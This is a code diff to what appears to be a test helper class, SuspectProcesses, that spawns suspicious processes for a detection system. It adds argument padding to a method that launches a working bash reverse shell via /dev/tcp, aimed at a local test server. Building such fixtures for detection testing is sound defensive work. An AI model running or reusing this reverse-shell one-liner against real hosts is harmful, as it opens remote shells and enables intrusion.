@@ -36,7 +36,7 @@ export class SuspectProcesses {
    * the shell has connected. `; true` keeps the outer bash -c from exec'ing the inner one, so its command line
    * stays the reverse shell's.
    */
-  async reverseShell(options: StartOptions = {}): Promise<number> {
+  async reverseShell(options: StartOptions = {}, padding: readonly string[] = []): Promise<number> {
     const connected = new Promise<void>((resolve) => {
       this.server = createServer((socket) => {
         this.sockets.push(socket);
@@ -49,7 +49,8 @@ export class SuspectProcesses {
         resolve(typeof address === 'object' && address !== null ? address.port : 0);
       });
     });
-    const pid = await this.start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`], options);
+    // `padding`: more arguments after the script (bash -c takes them as $0, $1, …), to make its argv long.
+    const pid = await this.start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`, ...padding], options);
     await connected;
     return pid;
   }
